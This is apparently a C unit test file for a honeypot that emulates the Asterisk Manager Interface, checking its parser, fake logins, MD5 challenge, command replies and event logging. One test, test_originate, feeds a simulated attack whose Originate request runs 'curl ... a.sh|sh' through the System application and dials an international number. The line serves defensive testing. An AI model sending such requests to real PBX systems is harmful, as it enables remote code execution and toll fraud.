/*
 * test_ami.c - unit tests for the Asterisk Manager Interface front-end
 * (src/proto/ami.c): the action parser (CRLF and LF, split input with the
 * scan hint, long lines dropped, the header cap, the pending cap) and the
 * session machine driven without sockets: the banner, Permission denied
 * before a login, Login accepted / failed after the delay (timer), the MD5
 * challenge flow, Ping, Command in both output formats, Originate validation
 * and its event, Logoff, and the events each action produces.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <openssl/evp.h>
#include <cmocka.h>

#include "event.h"
#include "reader.h"
#include "proto/ami.h"

/* ---- captured events and scans ------------------------------------------------------ */

static char evs[32][4096];
static int nev;
static char scanned[4096];

static int cap_emit(struct hp_ev *ev)
{
    struct hp_event *e = hp_ev_finish(ev);
    assert_non_null(e);
    if (nev < 32)
        snprintf(evs[nev++], sizeof(evs[0]), "%.*s", (int)e->json_len, e->json);
    hp_event_unref(e);
    return 0;
}

static size_t cap_scan(const struct hp_evctx *ctx, const void *data, size_t len, const char *found_in)
{
    (void)ctx;
    assert_string_equal(found_in, "asterisk_ami");
    size_t have = strlen(scanned);
    snprintf(scanned + have, sizeof(scanned) - have, "%.*s|", (int)len, (const char *)data);
    return 0;
}

static int count_ev(const char *id)
{
    char pat[64];
    snprintf(pat, sizeof(pat), "\"eventid\":\"%s\"", id);
    int n = 0;
    for (int i = 0; i < nev; i++)
        n += strstr(evs[i], pat) != NULL;
    return n;
}

static const char *last_ev(const char *id)
{
    char pat[64];
    snprintf(pat, sizeof(pat), "\"eventid\":\"%s\"", id);
    for (int i = nev - 1; i >= 0; i--)
        if (strstr(evs[i], pat))
            return evs[i];
    return NULL;
}

static struct hp_evctx ctx = { .session = "0123456789ab", .protocol = "asterisk_ami", .service = "ami",
                               .transport = "tcp", .src_ip = "192.0.2.1", .dst_ip = "192.0.2.2" };

/* ---- a session with the core's buffering -------------------------------------------- */

static uint8_t pend[70000];
static size_t npend;
static struct hp_ami_conf conf;

static void sess_open(struct hp_ami_sess *s, const char *version, uint64_t delay)
{
    hp_ami_conf_free(&conf);
    hp_ami_conf_init(&conf);
    conf.pers = hp_ami_pers_find(version);
    assert_non_null(conf.pers);
    conf.auth_fail_delay_ms = delay;
    conf.hostname = strdup("pbx01");
    npend = 0;
    nev = 0;
    scanned[0] = '\0';
    hp_ami_open(s, &conf, &ctx, cap_emit, cap_scan);
}

static void feed(struct hp_ami_sess *s, const void *p, size_t n)
{
    assert_true(npend + n <= sizeof(pend));
    memcpy(pend + npend, p, n);
    npend += n;
    struct hp_rd rd;
    hp_rd_init(&rd, pend, npend);
    hp_ami_input(s, &rd);
    size_t used = hp_rd_pos(&rd);
    memmove(pend, pend + used, npend - used);
    npend -= used;
}

static void feeds(struct hp_ami_sess *s, const char *t)
{
    feed(s, t, strlen(t));
}

/* The output so far as a string, then cleared (what the module sends). */
static char outbuf[HP_AMI_OUT_MAX + 1];
static const char *out(struct hp_ami_sess *s)
{
    snprintf(outbuf, sizeof(outbuf), "%.*s", (int)s->out.len, (const char *)s->out.data);
    hp_buf_reset(&s->out);
    return outbuf;
}

/* ---- parser ------------------------------------------------------------------------- */

static void test_parse(void **st)
{
    (void)st;
    struct hp_ami_msg m;
    struct hp_rd rd;
    size_t hint = 0, l;
    const char *t = "Action: Login\r\nusername:admin\r\nSecret:  pass word \r\nnocolon\r\n\r\nAction: Ping\n\nrest";
    hp_rd_init(&rd, t, strlen(t));
    assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 1);
    assert_int_equal(m.n, 4);
    const uint8_t *v = hp_ami_get(&m, "USERNAME", &l);
    assert_int_equal(l, 5);
    assert_memory_equal(v, "admin", 5);
    v = hp_ami_get(&m, "secret", &l);
    assert_int_equal(l, 10);
    assert_memory_equal(v, "pass word ", 10);
    assert_null(hp_ami_get(&m, "nocolon", &l));
    assert_int_equal(m.rawlen, strlen("Action: Login\r\nusername:admin\r\nSecret:  pass word \r\nnocolon"));
    assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 1);      /* LF only */
    v = hp_ami_get(&m, "Action", &l);
    assert_memory_equal(v, "Ping", 4);
    assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 0);      /* "rest": incomplete */
    assert_int_equal(hp_rd_left(&rd), 4);

    /* Split input: the hint moves forward, the result is the same. */
    const char *a = "Action: Ping\r\nActionID: 42\r\n\r\n";
    hint = 0;
    for (size_t n = 1; n < strlen(a); n++) {
        hp_rd_init(&rd, a, n);
        assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 0);
        assert_int_equal(hp_rd_pos(&rd), 0);
        assert_true(hint <= n);
    }
    hp_rd_init(&rd, a, strlen(a));
    assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 1);
    assert_int_equal(m.n, 2);
    assert_int_equal(hint, 0);

    /* An over-long line is dropped, the action still parsed; too many headers are counted. */
    static char big[8000];
    int k = snprintf(big, sizeof(big), "Action: Ping\r\nX: ");
    memset(big + k, 'a', 2000);
    k += 2000;
    k += snprintf(big + k, sizeof(big) - (size_t)k, "\r\nActionID: 7\r\n\r\n");
    hint = 0;
    hp_rd_init(&rd, big, (size_t)k);
    assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 1);
    assert_int_equal(m.n, 2);
    assert_int_equal(m.dropped, 1);
    k = 0;
    for (int i = 0; i < 200; i++)
        k += snprintf(big + k, sizeof(big) - (size_t)k, "H%d: v\r\n", i);
    k += snprintf(big + k, sizeof(big) - (size_t)k, "\r\n");
    hint = 0;
    hp_rd_init(&rd, big, (size_t)k);
    assert_int_equal(hp_ami_parse(&rd, &m, 65536, &hint), 1);
    assert_int_equal(m.n, HP_AMI_HDR_MAX);
    assert_int_equal(m.dropped, 200 - HP_AMI_HDR_MAX);

    /* No blank line within max: -1. */
    memset(big, 'x', 3000);
    big[1000] = '\n';
    hint = 0;
    hp_rd_init(&rd, big, 3000);
    assert_int_equal(hp_ami_parse(&rd, &m, 2048, &hint), -1);
    /* An empty action (a lone blank line). */
    hint = 0;
    hp_rd_init(&rd, "\r\n", 2);
    assert_int_equal(hp_ami_parse(&rd, &m, 2048, &hint), 1);
    assert_int_equal(m.n, 0);
    assert_int_equal(m.rawlen, 0);
}

/* ---- sessions ----------------------------------------------------------------------- */

static void test_banner_and_denied(void **st)
{
    (void)st;
    struct hp_ami_sess s;
    sess_open(&s, "16.2.1", 1000);
    assert_string_equal(out(&s), "Asterisk Call Manager/5.0.1\r\n");
    assert_true(s.timer_change);
    assert_int_equal(s.timer_ms, 30000);                   /* auth timeout */
    feeds(&s, "Action: Command\r\nActionID: a1\r\nCommand: core show version\r\n\r\n");
    assert_string_equal(out(&s), "Response: Error\r\nActionID: a1\r\nMessage: Permission denied\r\n\r\n");
    assert_int_equal(count_ev("command.input"), 1);
    assert_non_null(strstr(last_ev("command.input"), "\"input\":\"core show version\""));
    assert_non_null(strstr(last_ev("command.input"), "\"authenticated\":false"));
    feeds(&s, "\r\n");
    assert_string_equal(out(&s), "Response: Error\r\nMessage: Missing action in request\r\n\r\n");
    /* The auth timeout closes without a word. */
    hp_ami_timer(&s);
    assert_string_equal(out(&s), "");
    assert_string_equal(s.close_reason, "ami_auth_timeout");
    hp_ami_free(&s);
}

static void test_login_fail_and_success(void **st)
{
    (void)st;
    struct hp_ami_sess s;
    sess_open(&s, "18.20.0", 1000);
    out(&s);
    s.timer_change = false;
    feeds(&s, "Action: Login\r\nActionID: 9\r\nUsername: admin\r\nSecret: admin\r\n\r\nAction: Ping\r\n\r\n");
    assert_string_equal(out(&s), "");                      /* Asterisk sleeps 1 s first */
    assert_int_equal(s.state, HP_AMI_FAILWAIT);
    assert_true(s.timer_change);
    assert_int_equal(s.timer_ms, 1000);
    assert_true(npend > 0);                                /* the Ping waits, unread */
    const char *e = last_ev("login.failed");
    assert_non_null(e);
    assert_non_null(strstr(e, "\"username\":\"admin\""));
    assert_non_null(strstr(e, "\"password\":\"admin\""));
    assert_non_null(strstr(e, "\"method\":\"ami\""));
    hp_ami_timer(&s);
    assert_string_equal(out(&s), "Response: Error\r\nActionID: 9\r\nMessage: Authentication failed\r\n\r\n");
    assert_string_equal(s.close_reason, "ami_auth_failed");
    hp_ami_free(&s);

    sess_open(&s, "18.20.0", 0);
    out(&s);
    feeds(&s, "Action: Login\r\nUsername: admin\r\nSecret: amp111\r\n\r\n");
    const char *o = out(&s);
    assert_true(strncmp(o, "Response: Success\r\nMessage: Authentication accepted\r\n\r\n"
                           "Event: FullyBooted\r\nPrivilege: system,all\r\nUptime: ", 105) == 0);
    assert_non_null(strstr(o, "\r\nStatus: Fully Booted\r\n\r\n"));
    assert_true(s.authed);
    assert_true(s.timer_change && s.timer_ms == 0);        /* auth timeout cancelled */
    assert_non_null(strstr(last_ev("login.success"), "\"password\":\"amp111\""));
    feeds(&s, "Action: Ping\r\nActionID: p\r\n\r\n");
    o = out(&s);
    assert_true(strncmp(o, "Response: Success\r\nActionID: p\r\nPing: Pong\r\nTimestamp: ", 53) == 0);
    assert_non_null(strstr(o, "\r\n\r\n"));
    feeds(&s, "Action: Login\r\nUsername: x\r\nSecret: y\r\n\r\n");
    assert_string_equal(out(&s), "Response: Success\r\nMessage: Already authenticated\r\n\r\n");
    feeds(&s, "Action: Logoff\r\n\r\n");
    assert_string_equal(out(&s), "Response: Goodbye\r\nMessage: Thanks for all the fish.\r\n\r\n");
    assert_string_equal(s.close_reason, "ami_logoff");
    hp_ami_free(&s);
}

static void md5hex(const char *a, const char *b, char out_[33])
{
    uint8_t d[16];
    unsigned dl;
    EVP_MD_CTX *md = EVP_MD_CTX_new();
    EVP_DigestInit_ex(md, EVP_md5(), NULL);
    EVP_DigestUpdate(md, a, strlen(a));
    EVP_DigestUpdate(md, b, strlen(b));
    EVP_DigestFinal_ex(md, d, &dl);
    EVP_MD_CTX_free(md);
    for (int i = 0; i < 16; i++)
        sprintf(out_ + 2 * i, "%02x", d[i]);
}

static void test_md5_challenge(void **st)
{
    (void)st;
    struct hp_ami_sess s;
    sess_open(&s, "13.38.3", 0);
    out(&s);
    feeds(&s, "Action: Challenge\r\n\r\n");
    assert_string_equal(out(&s), "Response: Error\r\nMessage: Must specify AuthType\r\n\r\n");
    feeds(&s, "Action: Challenge\r\nAuthType: md5\r\nActionID: c\r\n\r\n");
    const char *o = out(&s);
    assert_true(strncmp(o, "Response: Success\r\nActionID: c\r\nChallenge: ", 43) == 0);
    char chal[24];
    assert_int_equal(sscanf(o + 43, "%23[0-9]", chal), 1);
    assert_string_equal(chal, s.challenge);
    char key[33], line[200];
    md5hex(chal, "amp111", key);
    snprintf(line, sizeof(line), "Action: Login\r\nAuthType: MD5\r\nUsername: admin\r\nKey: %s\r\n\r\n", key);
    feeds(&s, line);
    assert_true(s.authed);
    const char *e = last_ev("login.success");
    assert_non_null(strstr(e, "\"method\":\"ami_md5\""));
    assert_non_null(strstr(e, "\"password\":\"amp111\""));
    assert_non_null(strstr(e, "\"hash_format\":\"hashcat:20\""));
    char hash[80];
    snprintf(hash, sizeof(hash), "\"hash\":\"%s:%s\"", key, chal);
    assert_non_null(strstr(e, hash));
    hp_ami_free(&s);

    /* A wrong key: logged with the hash, no password. */
    sess_open(&s, "13.38.3", 0);
    feeds(&s, "Action: Challenge\r\nAuthType: MD5\r\n\r\n");
    md5hex(s.challenge, "wrong", key);
    snprintf(line, sizeof(line), "Action: Login\r\nAuthType: MD5\r\nUsername: admin\r\nKey: %s\r\n\r\n", key);
    feeds(&s, line);
    e = last_ev("login.failed");
    assert_non_null(e);
    assert_null(strstr(e, "\"password\""));
    assert_non_null(strstr(e, key));
    assert_string_equal(s.close_reason, "ami_auth_failed");
    hp_ami_free(&s);
}

static void test_commands(void **st)
{
    (void)st;
    struct hp_ami_sess s;
    /* 14+: Output headers. */
    sess_open(&s, "16.2.1", 0);
    feeds(&s, "Action: Login\r\nUsername: admin\r\nSecret: amp111\r\n\r\n");
    out(&s);
    feeds(&s, "Action: Command\r\nCommand: core show version\r\n\r\n");
    assert_string_equal(out(&s), "Response: Success\r\nMessage: Command output follows\r\n"
                                 "Output: Asterisk 16.2.1 built by mockbuild @ pbx01 on a x86_64 running Linux\r\n\r\n");
    feeds(&s, "Action: Command\r\nCommand: sip show peers\r\n\r\n");
    assert_non_null(strstr(out(&s), "Output: 0 sip peers [Monitored: 0 online"));
    feeds(&s, "Action: Command\r\nCommand: foo bar\r\n\r\n");
    assert_non_null(strstr(out(&s), "Output: No such command 'foo bar' (type 'core show help foo bar' for other "
                                    "possible commands)\r\n"));
    feeds(&s, "Action: Command\r\nCommand: module   load res_foo.so\r\n\r\n");
    assert_string_equal(out(&s), "Response: Error\r\nMessage: Command blacklisted\r\n\r\n");
    feeds(&s, "Action: CoreSettings\r\n\r\n");
    assert_non_null(strstr(out(&s), "AMIversion: 5.0.1\r\nAsteriskVersion: 16.2.1\r\nSystemName: pbx01\r\n"));
    feeds(&s, "Action: CoreStatus\r\n\r\n");
    assert_non_null(strstr(out(&s), "CoreCurrentCalls: 0\r\n\r\n"));
    feeds(&s, "Action: ListCommands\r\n\r\n");
    assert_non_null(strstr(out(&s), "Originate: Originate a call. (Priv: system,all)\r\n"));
    feeds(&s, "Action: Frobnicate\r\nActionID: z\r\n\r\n");
    assert_string_equal(out(&s), "Response: Error\r\nActionID: z\r\nMessage: Invalid/unknown command: Frobnicate. "
                                 "Use Action: ListCommands to show available commands.\r\n\r\n");
    assert_int_equal(count_ev("command.input"), 9);
    hp_ami_free(&s);

    /* 13: Response: Follows ... --END COMMAND--. */
    sess_open(&s, "13.38.3", 0);
    feeds(&s, "Action: Login\r\nUsername: admin\r\nSecret: amp111\r\n\r\n");
    out(&s);
    feeds(&s, "Action: Command\r\nActionID: 5\r\nCommand: core show calls\r\n\r\n");
    assert_string_equal(out(&s), "Response: Follows\r\nActionID: 5\r\nPrivilege: Command\r\n"
                                 "0 active calls\n0 calls processed\n--END COMMAND--\r\n\r\n");
    hp_ami_free(&s);
}

static void test_originate(void **st)
{
    (void)st;
    struct hp_ami_sess s;
    sess_open(&s, "20.5.2", 0);
    feeds(&s, "Action: Login\r\nUsername: admin\r\nSecret: amp111\r\n\r\n");
    out(&s);
    scanned[0] = '\0';
    feeds(&s, "Action: Originate\r\nChannel: SIP/trunk/011972599999999\r\nApplication: System\r\n"
              "Data: curl http://198.51.100.7/a.sh|sh\r\nAsync: yes\r\n\r\n");
    assert_string_equal(out(&s), "Response: Success\r\nMessage: Originate successfully queued\r\n\r\n");
    const char *e = last_ev("ami.originate");
    assert_non_null(e);
    assert_non_null(strstr(e, "\"channel\":\"SIP/trunk/011972599999999\""));
    assert_non_null(strstr(e, "\"application\":\"System\""));
    assert_non_null(strstr(e, "\"data\":\"curl http://198.51.100.7/a.sh|sh\""));
    assert_non_null(strstr(scanned, "http://198.51.100.7/a.sh"));
    struct { const char *req, *msg; } bad[] = {
        { "Action: Originate\r\nExten: 1\r\n\r\n", "Channel not specified" },
        { "Action: Originate\r\nChannel: nonsense\r\n\r\n", "Invalid channel" },
        { "Action: Originate\r\nChannel: SIP/a\r\nPriority: x\r\n\r\n", "Invalid priority" },
        { "Action: Originate\r\nChannel: SIP/a\r\nTimeout: 1s\r\n\r\n", "Invalid timeout" },
        { "Action: Originate\r\nChannel: SIP/a\r\nExten: 1\r\n\r\n", "Originate with 'Exten' requires 'Context' and 'Priority'" },
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        char want[200];
        feeds(&s, bad[i].req);
        snprintf(want, sizeof(want), "Response: Error\r\nMessage: %s\r\n\r\n", bad[i].msg);
        assert_string_equal(out(&s), want);
    }
    assert_int_equal(count_ev("ami.originate"), 6);
    hp_ami_free(&s);
}

static void test_pending_cap_and_flood(void **st)
{
    (void)st;
    struct hp_ami_sess s;
    sess_open(&s, "16.2.1", 0);
    out(&s);
    static char junk[66000];
    memset(junk, 'A', sizeof(junk));
    feed(&s, junk, sizeof(junk));
    assert_string_equal(s.close_reason, "ami_action_too_long");
    hp_ami_free(&s);

    /* Many pipelined actions: the session stops at half the output cap and resumes. */
    sess_open(&s, "16.2.1", 0);
    out(&s);
    static char many[60000];
    size_t k = 0;
    while (k + 40 < sizeof(many))
        k += (size_t)snprintf(many + k, sizeof(many) - k, "Action: Ping\r\n\r\n");
    feed(&s, many, k);
    assert_true(s.out.len >= HP_AMI_OUT_MAX / 2 || npend == 0);
    size_t rounds = 0;
    while (npend && rounds++ < 100) {
        hp_buf_reset(&s.out);
        feed(&s, "", 0);
    }
    assert_int_equal(npend, 0);
    assert_null(s.close_reason);
    hp_ami_free(&s);
}

static void test_releases(void **st)
{
    (void)st;
    size_t n;
    const struct hp_ami_pers *p = hp_ami_pers_all(&n);
    assert_true(n >= 6);
    for (size_t i = 0; i < n; i++)
        assert_ptr_equal(hp_ami_pers_find(p[i].asterisk), &p[i]);
    assert_null(hp_ami_pers_find("99.0.0"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_parse),
        cmocka_unit_test(test_banner_and_denied),
        cmocka_unit_test(test_login_fail_and_success),
        cmocka_unit_test(test_md5_challenge),
        cmocka_unit_test(test_commands),
        cmocka_unit_test(test_originate),
        cmocka_unit_test(test_pending_cap_and_flood),
        cmocka_unit_test(test_releases),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    hp_ami_conf_free(&conf);
    return rc;
}
